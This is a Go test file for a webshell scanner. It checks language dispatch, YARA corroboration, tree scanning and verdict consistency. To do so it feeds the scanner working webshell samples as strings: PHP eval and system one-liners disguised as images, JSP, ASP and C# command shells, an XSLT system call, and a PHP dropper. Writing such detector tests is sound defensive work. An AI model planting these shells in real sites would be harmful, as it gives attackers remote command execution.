package webshell

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/yingji/yingji/internal/webshell/lang"
	"github.com/yingji/yingji/internal/webshell/verdict"
)

// TestScanDispatch checks that each language reaches its analysis,
// whatever the file is called.
func TestScanDispatch(t *testing.T) {
	cases := []struct {
		name, src string
		lang      lang.Lang
		rule      string
	}{
		{"logo.jpg", "GIF89a\n<?php @eval($_POST['x']); ?>", lang.PHP, "php."},
		{"x.txt", `<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>`, lang.JSP, "jsp."},
		{"a.ico", `<%eval request("pass")%>`, lang.ASP, ""},
		{"t.xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="http://php.net/xsl">` +
			`<xsl:template match="/"><xsl:value-of select="p:function('system', string(/r/c))"/></xsl:template></xsl:stylesheet>`, lang.PHP, "php.xslt-exec"},
		{"h.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request[\"c\"]); } public bool IsReusable { get { return false; } } }", lang.ASPX, ""},
	}
	for _, c := range cases {
		r := Scan(c.name, []byte(c.src))
		if r.Lang != c.lang || !r.Reported() || !strings.HasPrefix(r.Detections[0].Rule, c.rule) {
			t.Errorf("%s: lang %v, score %d, detections %+v", c.name, r.Lang, r.Score, r.Detections)
		}
	}
	if r := Scan("index.html", []byte("<html><body>hello</body></html>")); r.Reported() || len(r.Detections) > 0 {
		t.Errorf("HTML page: %+v", r)
	}
	// A stylesheet that calls harmless PHP functions is PHP's to read,
	// and not reported.
	xsl := `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">` +
		`<xsl:template match="/"><xsl:value-of select="php:function('strtoupper', string(/r/t))"/></xsl:template></xsl:stylesheet>`
	if r := Scan("format.xsl", []byte(xsl)); r.Lang != lang.PHP || r.Reported() {
		t.Errorf("benign PHP stylesheet: lang %v, %+v", r.Lang, r.Detections)
	}
}

// TestCorroborate checks that a YARA rule of the pack raises a suspicious
// file to reported, and nothing else.
func TestCorroborate(t *testing.T) {
	shell := []byte(`<?php @eval($_POST['pass']);?>`)
	sus := func(score int) Result {
		return Result{Score: score, Detections: []verdict.Detection{{Rule: "php.eval-unknown", Score: score}}}
	}
	r := sus(50)
	corroborate(&r, shell)
	if !r.Reported() || !strings.HasPrefix(r.Detections[0].Rule, "yara.") || r.Detections[0].WhyZh == "" {
		t.Errorf("suspicious file with a matching rule: %+v", r)
	}
	r = sus(30)
	corroborate(&r, shell)
	if r.Reported() {
		t.Errorf("weak evidence raised: %+v", r)
	}
	r = sus(50)
	corroborate(&r, []byte("<?php echo 'hello';"))
	if r.Reported() {
		t.Errorf("no rule matches, yet reported: %+v", r)
	}
}

// TestScanFS checks the tree scan: every regular file once, links not
// followed, a large file analysed over its head and tail.
func TestScanFS(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, b []byte) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("a/ok.php", []byte("<?php echo 1;"))
	write("a/shell.php", []byte("<?php system($_GET['c']);"))
	// A shell appended after MaxFileSize bytes of padding: found in the tail.
	big := append([]byte("<?php\n/*"), make([]byte, MaxFileSize)...)
	big = append(big, []byte("*/\nsystem($_GET['c']);\n")...)
	write("b/big.php", big)
	outside := filepath.Join(t.TempDir(), "x.php")
	if err := os.WriteFile(outside, []byte("<?php system($_GET['c']);"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "a/link.php")); err != nil {
		t.Fatal(err)
	}
	got := map[string]Result{}
	err := ScanFS(context.Background(), os.DirFS(dir), []string{"."}, Options{Workers: 2}, func(r Result) {
		if _, dup := got[r.Path]; dup {
			t.Errorf("%s scanned twice", r.Path)
		}
		got[r.Path] = r
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Errorf("scanned %d files: %v", len(got), got)
	}
	if !got["a/shell.php"].Reported() || got["a/ok.php"].Reported() {
		t.Errorf("verdicts: shell %d, ok %d", got["a/shell.php"].Score, got["a/ok.php"].Score)
	}
	if b := got["b/big.php"]; !b.Truncated || !b.Reported() || b.SHA256 != "" {
		t.Errorf("big file: truncated %v, score %d, sha %q", b.Truncated, b.Score, b.SHA256)
	}
}

// TestDecideSameVerdict checks that verdict.Decide (yingji webshell -l)
// reports exactly the files verdict.Explain reports: on the dispatch
// cases, the packages' test pages, and every fourth file of the
// development set when it is extracted (as on a developer machine).
func TestDecideSameVerdict(t *testing.T) {
	files := map[string][]byte{
		"a.php": []byte("<?php $a = base64_decode('ZXZhbA=='); @eval($_POST['x']); system($_GET['c']); ?>"),
		"b.asp": []byte(`<%eval request("pass")%><% Set o = Server.CreateObject("WScript.Shell") : o.Exec(Request("c")) %>`),
		"c.php": []byte("<?php echo 'hello';"),
	}
	for _, dir := range []string{"asp/testdata", "jsp/testdata", "/var/tmp/wsdev/webshell-dev"} {
		n := 0
		_ = filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
			if err != nil || !fi.Mode().IsRegular() || strings.Contains(p, "/fuzz/") || fi.Size() > 256<<10 {
				return nil
			}
			if n++; strings.HasPrefix(dir, "/") && n%4 != 0 {
				return nil
			}
			if b, err := os.ReadFile(p); err == nil {
				files[p] = b
			}
			return nil
		})
	}
	for name, b := range files {
		var ex, de Result
		ex.Path, de.Path = name, name
		analyze(&ex, b, verdict.Explain)
		analyze(&de, b, verdict.Decide)
		if ex.Reported() != de.Reported() || ex.Lang != de.Lang || de.Score > ex.Score {
			t.Errorf("%s: explain %v score %d, decide %v score %d", name, ex.Lang, ex.Score, de.Lang, de.Score)
		}
	}
}

// TestTaglessPHP checks that PHP code without a tag, a payload left for a
// loader that evals it, is analysed and says so, while tagless text that
// does nothing dangerous stays unreported.
func TestTaglessPHP(t *testing.T) {
	dropper := "$f = $_SERVER['DOCUMENT_ROOT'] . \"/tmp/x.php\";\n$fp = fopen($f, \"w+\");\n" +
		"fwrite($fp, base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOyA/Pg=='));\nfclose($fp);\n"
	r := Scan("notes.txt", []byte(dropper))
	if r.Lang != lang.PHP || !r.Reported() || !r.Tagless {
		t.Fatalf("tagless dropper: lang %v, score %d, tagless %v, %+v", r.Lang, r.Score, r.Tagless, r.Detections)
	}
	if en, zh := Explain(r); !strings.Contains(en, "without a <?php tag") || !strings.Contains(zh, "无 <?php 标记") {
		t.Errorf("explanation does not say the code is tagless:\n%s\n%s", en, zh)
	}
	benign := "$title = htmlspecialchars($row['title']);\n$fp = fopen($cacheDir . '/index.html', 'w');\nfwrite($fp, $title);\nfclose($fp);\n"
	if r := Scan("snippet.txt", []byte(benign)); r.Reported() || r.Tagless {
		t.Errorf("benign tagless snippet: lang %v, score %d, tagless %v, %+v", r.Lang, r.Score, r.Tagless, r.Detections)
	}
}
